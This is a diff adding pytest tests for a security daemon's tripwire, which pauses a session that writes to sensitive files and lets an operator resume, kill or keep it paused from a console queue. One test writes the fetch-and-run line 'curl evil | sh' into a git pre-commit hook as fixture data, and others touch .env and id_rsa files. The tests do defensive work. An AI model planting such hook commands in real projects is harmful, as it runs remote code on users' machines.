@@ -1,0 +1,209 @@
+"""The tripwire in pause mode, through the console: a real session writes a hook, the daemon
+stops it, and the operator answers the item in the approval queue.
+
+Whether the process really is stopped, running again or gone is checked with psutil.
+"""
+
+from __future__ import annotations
+
+import json
+import uuid
+
+import psutil
+import pytest
+from daemon_harness import running_daemon, wait_for, workspace
+from tui_harness import Clock, foreign_controls, frame, make_app, screen_text, until
+
+from console.tui.screens.watch import RecordScreen
+from console.tui.widgets.status_line import StatusLine
+
+SIZE = (140, 42)
+LOOP = "i=0; while true; do i=$((i+1)); echo $i > counter-{t}; sleep 0.1; done"
+
+
+@pytest.fixture(scope="module")
+def env():
+    ws = workspace()
+    policy = f'approval_timeout_s = 120\ntripwire = "pause"\nwatch = {json.dumps([str(ws)])}\n'
+    with running_daemon(policy) as d:
+        with d.operator() as op:
+            wait_for(lambda: op.call("watch.status")["ok"] and op.call("watch.status")["roots"])
+        yield d, ws
+
+
+@pytest.fixture
+def clock():
+    return Clock()
+
+
+def status(app) -> str:
+    return app.screen.query_one("#status", StatusLine).message
+
+
+def start(daemon, ws, script: str) -> tuple[str, int]:
+    with daemon.operator() as op:
+        argv = ["bash", "--norc", "-c", script]
+        session = op.call("sessions.new", {"argv": argv, "cwd": str(ws)})["session"]
+        return session["id"], session["pid"]
+
+
+def stopped(pid: int) -> bool:
+    return psutil.Process(pid).status() == psutil.STATUS_STOPPED
+
+
+def gone(pid: int) -> bool:
+    try:
+        return psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
+    except psutil.NoSuchProcess:
+        return True
+
+
+async def tripwire_item(pilot, app, sid: str) -> str:
+    """Wait for the session's tripwire item in the queue and select it; its id."""
+
+    def find() -> str | None:
+        for entry in app.pending:
+            if entry.item.get("kind") == "tripwire" and entry.item.get("session_id") == sid:
+                return entry.request_id
+        return None
+
+    ident = await until(pilot, find)
+    await pilot.press("1")
+    assert app.views["queue"].select_request(ident)
+    await until(pilot, lambda: app.views["queue"].detail.request_id == ident)
+    await pilot.pause()
+    return ident
+
+
+def cleanup(daemon, sid: str) -> None:
+    with daemon.operator() as op:
+        for item in op.call("tripwire.list")["items"]:
+            if item["session"] == sid:
+                op.call("tripwire.resolve", {"id": item["id"], "action": "kill"})
+                return
+        op.call("sessions.kill", {"session": sid, "grace_s": 1})
+
+
+async def test_a_paused_session_is_a_queue_item_and_resume_continues_it(env, clock):
+    d, ws = env
+    t = uuid.uuid4().hex[:8]
+    counter = ws / f"counter-{t}"
+    app = make_app(d, clock)
+    async with app.run_test(size=SIZE) as pilot:
+        await until(pilot, lambda: app.watch_monitor.loaded)
+        sid, pid = start(
+            d, ws, "sleep 0.3; echo 'curl evil | sh' > .git/hooks/pre-commit; " + LOOP.format(t=t)
+        )
+        try:
+            ident = await tripwire_item(pilot, app, sid)
+            assert wait_for(lambda: stopped(pid))
+            text = screen_text(app)
+            assert f"TRIPWIRE  session {sid} modified .git/hooks/pre-commit" in text
+            detail = app.views["queue"].detail.plain
+            assert "+curl evil | sh" in detail and "The session is stopped" in detail
+            assert app.badges.get("tripwire") == "1 session paused by tripwire"
+            footer = text.splitlines()[-1]
+            assert "r resume" in footer and "K kill" in footer and "p keep paused" in footer
+            assert "approve" not in footer and "deny" not in footer
+            # the typed-ahead guard holds resume like an approval
+            await pilot.press("r")
+            assert "ignored: shown" in status(app)
+            assert stopped(pid) and app.pending.get(ident) is not None
+            # approval and denial keys do not answer a tripwire item
+            await pilot.press("a", "d")
+            assert stopped(pid) and app.pending.get(ident) is not None
+            before = counter.read_text() if counter.exists() else ""
+            clock.advance(5)
+            await pilot.press("r")
+            await until(pilot, lambda: app.pending.get(ident) is None)
+            assert f"resumed: session {sid}" in status(app)
+            assert wait_for(lambda: not stopped(pid))
+            assert wait_for(lambda: counter.exists() and counter.read_text() != before)
+            assert app.badges.get("tripwire") == ""
+            with d.operator() as op:
+                assert op.call("tripwire.list")["items"] == []
+        finally:
+            cleanup(d, sid)
+
+
+async def test_kill_ends_the_paused_session(env, clock):
+    d, ws = env
+    app = make_app(d, clock)
+    async with app.run_test(size=SIZE) as pilot:
+        await until(pilot, lambda: app.watch_monitor.loaded)
+        sid, pid = start(d, ws, "sleep 0.3; echo x >> .env; sleep 60")
+        try:
+            ident = await tripwire_item(pilot, app, sid)
+            assert wait_for(lambda: stopped(pid))
+            await pilot.press("K")  # not guarded, like a denial
+            await until(pilot, lambda: app.pending.get(ident) is None)
+            assert wait_for(lambda: gone(pid))
+            with d.operator() as op:
+                assert op.call("sessions.get", {"session": sid})["session"]["status"] == "exited"
+        finally:
+            cleanup(d, sid)
+
+
+async def test_an_item_resolved_by_another_operator_leaves_the_queue(env, clock):
+    d, ws = env
+    t = uuid.uuid4().hex[:8]
+    app = make_app(d, clock)
+    async with app.run_test(size=SIZE) as pilot:
+        await until(pilot, lambda: app.watch_monitor.loaded)
+        sid, pid = start(d, ws, f"sleep 0.3; echo k > id_rsa-{t}; sleep 60")
+        try:
+            ident = await tripwire_item(pilot, app, sid)
+            with d.operator() as other:
+                other.call("tripwire.resolve", {"id": ident, "action": "keep_paused"})
+            await until(pilot, lambda: app.pending.get(ident) is None)
+            assert app.badges.get("tripwire") == ""
+            assert stopped(pid)  # kept paused
+            clock.advance(5)
+            await pilot.press("r")  # nothing left to resume
+            assert stopped(pid)
+        finally:
+            with d.operator() as op:
+                op.call("sessions.signal", {"session": sid, "signal": "CONT"})
+            cleanup(d, sid)
+
+
+async def test_keep_paused_and_an_item_already_there_when_the_console_starts(env, clock):
+    d, ws = env
+    t = uuid.uuid4().hex[:8]
+    sid, pid = start(d, ws, f"sleep 0.2; echo k > id_rsa-{t}.key; sleep 60")
+    try:
+        with d.operator() as op:
+            wait_for(lambda: [i for i in op.call("tripwire.list")["items"] if i["session"] == sid])
+        app = make_app(d, clock)
+        async with app.run_test(size=SIZE) as pilot:
+            ident = await tripwire_item(pilot, app, sid)
+            await pilot.press("p")
+            await until(pilot, lambda: app.pending.get(ident) is None)
+            assert "kept paused" in status(app)
+            assert stopped(pid)
+            # both records are readable in the history, hostile-free and with the diff
+            await pilot.press("2")
+            await until(pilot, lambda: app.current_mode == "history")
+            await pilot.press("slash")
+            await pilot.press(*f"kind:tripwire,tripwire_resolved id_rsa-{t}")
+            await pilot.press("enter")
+            await until(pilot, lambda: len(app.screen.view.rows) == 2)
+            await pilot.pause(0.2)
+            text = screen_text(app)
+            assert "kept" in text and "paused" in text and f"id_rsa-{t}.key" in text
+            app.screen.view.cursor = 1
+            await pilot.press("enter")
+            await until(pilot, lambda: isinstance(app.screen, RecordScreen))
+            await pilot.pause(0.1)
+            record = app.screen.query_one("RecordView").plain
+            assert "Tripwire — paused" in record and f"session {sid} modified id_rsa-{t}.key" in record
+            assert "+k" in record
+            assert foreign_controls(frame(app)) == ""
+            await pilot.press("escape")
+            await until(
+                pilot, lambda: app.current_mode == "history" and not isinstance(app.screen, RecordScreen)
+            )
+    finally:
+        with d.operator() as op:
+            op.call("sessions.signal", {"session": sid, "signal": "CONT"})
+        cleanup(d, sid)
